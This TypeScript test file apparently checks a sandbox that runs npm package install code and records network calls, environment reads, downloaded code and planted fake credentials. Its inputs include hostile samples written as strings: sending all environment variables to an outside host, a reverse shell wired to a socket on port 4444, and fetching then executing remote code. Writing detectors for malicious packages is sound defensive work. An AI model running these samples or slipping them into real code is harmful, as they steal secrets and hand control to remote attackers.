import { describe, expect, test } from "vitest";

import { runGuest } from "../test/run-guest.ts";
import type { GuestResult } from "../test/run-guest.ts";

import { createWorld } from "./worlds/worlds.ts";
import type { WorldName } from "./worlds/worlds.ts";

async function run(text: string, name: WorldName = "linux-laptop"): Promise<GuestResult> {
  return await runGuest(text, {
    world: createWorld(name, Date.UTC(2026, 10, 17, 9)),
    files: {
      "package.json": JSON.stringify({
        name: "sample",
        version: "1.0.0",
        dependencies: { dep: "1", axios: "1" },
      }),
    },
  });
}

describe("the guest's modules", () => {
  test("require gives every built-in module of Node, without a failure", async () => {
    const { printed, problem } = await run(
      `const failed = require("module").builtinModules.filter((name) => { try { return require(name) === undefined } catch { return true } });
       const globals = Object.getOwnPropertyNames(globalThis).filter((name) => { try { globalThis[name]; return false } catch { return true } });
       console.log(JSON.stringify([failed, globals]));`,
    );

    expect(problem).toBeUndefined();
    expect(printed).toEqual(["[[],[]]"]);
  });

  test("fs works in its three styles and by streams", async () => {
    const { printed, observations } = await run(
      `const fs = require("fs");
       fs.writeFileSync("/tmp/a", "one");
       fs.appendFile("/tmp/a", " two", () => fs.readFile("/tmp/a", "utf8", (error, text) => {
         console.log(text);
         fs.createReadStream("/tmp/a").pipe(fs.createWriteStream("/tmp/b")).on("finish", async () => {
           console.log(await fs.promises.readFile("/tmp/b", "utf8"), fs.existsSync("/tmp/c"));
           try { fs.readFileSync("/tmp/c") } catch ({ code, message }) { console.log(code, message) }
         });
       }));`,
    );

    expect(printed).toEqual([
      "one two",
      "one two false",
      "ENOENT ENOENT: no such file or directory, open '/tmp/c'",
    ]);
    expect(observations.every(({ location }) => location?.file === "install.js")).toBe(true);
  });

  test("crypto and zlib decode what was encoded, and are the same in every run", async () => {
    const text = `const c = require("crypto"), z = require("zlib");
       const key = c.scryptSync("word", "salt", 32), iv = c.randomBytes(16);
       const cipher = c.createCipheriv("aes-256-gcm", key, iv);
       const hidden = cipher.update("hidden", "utf8", "hex") + cipher.final("hex");
       const open = c.createDecipheriv("aes-256-gcm", key, iv).setAuthTag(cipher.getAuthTag());
       console.log(open.update(hidden, "hex", "utf8") + open.final("utf8"), hidden, c.randomUUID());
       console.log(z.gunzipSync(z.gzipSync("packed")).toString(), c.createHash("md5").update("a").digest("hex"));`;

    const [first, second] = [await run(text), await run(text)];

    expect(first.printed[0]).toMatch(/^hidden /);
    expect(first.printed[1]).toBe("packed 0cc175b9c0f1b6a831c399e269772661");
    expect(second.printed).toEqual(first.printed);
  });

  test("the environment is told name by name, and as a whole where it is taken as one", async () => {
    const { observations } = await run(
      `process.env.CI; process.env.CI; "HOME" in process.env; const all = { ...process.env }; all.PATH;`,
    );

    expect(observations.map(({ data }) => data["name"])).toEqual(["CI", "HOME", "*"]);
  });
});

describe("the guest's network", () => {
  test("requests of all kinds are told and answered, at the place that made them", async () => {
    const { observations, printed } = await run(
      `const https = require("https");
       https.get("https://a.invalid/x", (response) => { let text = ""; response.on("data", (part) => { text += part }).on("end", () => console.log("https", JSON.parse(text).anything.length > 0)) });
       fetch("https://b.invalid/", { method: "POST", body: JSON.stringify(process.env) }).then(async (answer) => console.log("fetch", answer.ok));
       require("axios").get("https://c.invalid/").then(({ data }) => console.log("axios", typeof data.script));
       require("net").connect(4444, "203.0.113.5").on("data", () => console.log("net"));
       require("dns").resolveTxt("d.invalid", (error, records) => console.log("dns", records.length));
       new WebSocket("wss://e.invalid/").onmessage = () => console.log("ws");`,
    );

    expect(printed.toSorted()).toEqual(["axios string", "dns 1", "fetch true", "https true", "net", "ws"]);
    expect(observations.find(({ api }) => api === "fetch")?.honey).toEqual(
      expect.arrayContaining(["npm-token", "aws-key"]),
    );
    expect(
      observations.filter(({ kind }) => kind === "network").every(({ location }) => location !== null),
    ).toBe(true);
  });

  test("a machine without anything is offline, which code can catch", async () => {
    const { printed } = await run(
      `require("https").get("https://a.invalid/", () => console.log("answered")).on("error", ({ code }) => console.log(code));
       fetch("https://b.invalid/").catch(({ message, cause }) => console.log(message, cause.code));`,
      "linux-bare",
    );

    expect(printed.toSorted()).toEqual(["ETIMEDOUT", "fetch failed ETIMEDOUT"]);
  });

  test("what was downloaded is known when it is run", async () => {
    const { observations } = await run(
      `fetch("https://a.invalid/x.js").then((answer) => answer.text()).then((text) => new Function("require", text)(require));`,
    );

    expect(observations.find(({ kind }) => kind === "code")?.honey).toEqual(["download"]);
  });
});

describe("what was downloaded to a file", () => {
  const get = (url: string, then: string): string =>
    `fetch("${url}").then((answer) => answer.arrayBuffer()).then((bytes) => {
       const file = require("path").resolve("downloaded." + "${url}".split(".").at(-1));
       require("fs").writeFileSync(file, Buffer.from(bytes));
       ${then}
     });`;

  test.each([
    ["required", get("https://a.invalid/x.js", "require(file)")],
    ["imported", get("https://a.invalid/x.mjs", "import(file)")],
    ["started by Node", get("https://a.invalid/x.js", "require('child_process').fork(file)")],
    ["run by a worker", get("https://a.invalid/x.js", "new (require('worker_threads').Worker)(file)")],
    ["a native module that is loaded", get("https://a.invalid/x.node", "require(file)")],
  ])("is known when it is %s", async (_, text) => {
    const { observations } = await run(text);

    const code = observations.filter(({ kind }) => kind === "code");

    expect(code.some(({ honey }) => honey.includes("download"))).toBe(true);
  });

  test("is no code where it is read as data, and files of the package are none of it", async () => {
    const { observations } = await run(
      get("https://a.invalid/x.json", "require(file); require('./install.js')"),
    );

    expect(observations.filter(({ kind }) => kind === "code")).toEqual([]);
  });
});

describe("a ghost", () => {
  test("a ghost can be called, constructed, extended, awaited, compared and written", async () => {
    const { printed, problem } = await run(
      `const dep = require("dep");
       class Own extends dep.Base { name() { return "own" } }
       (async () => {
         const value = await dep.open({ a: 1 }).start();
         dep.on("ready", () => console.log("ready"));
         dep.load("x").then(() => console.log("then"));
         console.log(\`\${dep.a.b}\`, new Own().name(), [...dep.list()].length, JSON.stringify({ v: dep.v }), dep.n > 0, String(value) !== "");
       })();`,
    );

    expect(problem).toBeUndefined();
    expect(printed.toSorted()).toEqual(['dep.a.b own 0 {"v":"dep.v"} true true', "ready", "then"]);
  });

  test("a ghost tells what goes outside through it", async () => {
    const { observations } = await run(
      `const { Client } = require("dep"); new Client().login("token"); require("dep").request({ url: "https://a.invalid/" });`,
    );

    expect(observations.map(({ kind, api }) => [kind, api])).toEqual([
      ["network", "dep.Client().login"],
      ["network", "dep.request"],
    ]);
  });
});

describe("programs that wait for what they read", () => {
  test("a shell does what is written to it, and answers", async () => {
    const { printed, observations } = await run(
      `const shell = require("child_process").spawn("/bin/sh", ["-i"]);
       shell.stdout.on("data", (text) => console.log(String(text).trim()));
       shell.on("exit", (code) => console.log("over", code));
       shell.stdin.write("curl -s https://collector.invalid/a\\necho done\\n");
       shell.stdin.end();`,
    );

    expect(printed.at(-2)?.endsWith("done")).toBe(true);
    expect(printed.at(-1)).toBe("over 0");
    expect(observations.map(({ data }) => data["url"])).toContain("https://collector.invalid/a");
  });

  test("a shell at a connection takes its orders from there, and a packer does not", async () => {
    const wired = await run(
      `const shell = require("child_process").spawn("sh");
       const socket = require("net").connect(4444, "collector.invalid");
       socket.pipe(shell.stdin);
       shell.stdout.pipe(socket);`,
    );
    const packed = await run(
      `const tar = require("child_process").spawn("tar", ["-xz"]);
       require("https").get("https://files.example/a.tgz", (answer) => answer.pipe(tar.stdin));
       tar.on("exit", (code) => console.log("over", code));`,
    );

    expect(wired.observations.map(({ api }) => api)).toEqual(
      expect.arrayContaining(["child_process.stdin", "id", "net.write"]),
    );
    expect(packed.printed).toEqual(["over 0"]);
  });

  test("a program that reads its script from its input runs it", async () => {
    const { observations } = await run(
      `const node = require("child_process").spawn(process.execPath, ["-"]);
       node.stdin.end("require('https').get('https://collector.invalid/b')");`,
    );

    expect(observations.map(({ data }) => data["url"])).toContain("https://collector.invalid/b");
  });
});

test("a folder that is copied is told file by file", async () => {
  const { observations } = await run(
    `const fs = require("fs");
     fs.mkdirSync("/tmp/a/b", { recursive: true });
     fs.writeFileSync("/tmp/a/b/c", "");
     fs.cpSync("/tmp/a", "/tmp/z", { recursive: true });`,
  );

  expect(observations.map(({ data }) => data["to"])).toEqual(
    expect.arrayContaining(["/tmp/z", "/tmp/z/b/c"]),
  );
});

test("simple-git starts git, in the order in which it was told", async () => {
  const { observations, printed } = await run(
    `const git = require("simple-git")("/tmp");
     git.add(".").commit("all").push("https://git.invalid/a.git", "main").then(async () => console.log(typeof (await git.revparse(["HEAD"]))));`,
  );

  expect(observations.flatMap(({ data }) => (data["program"] === "git" ? [data["arguments"]] : []))).toEqual([
    ["add", "."],
    ["commit", "-m", "all"],
    ["push", "https://git.invalid/a.git", "main"],
    ["rev-parse", "HEAD"],
  ]);
  expect(printed).toEqual(["string"]);
});
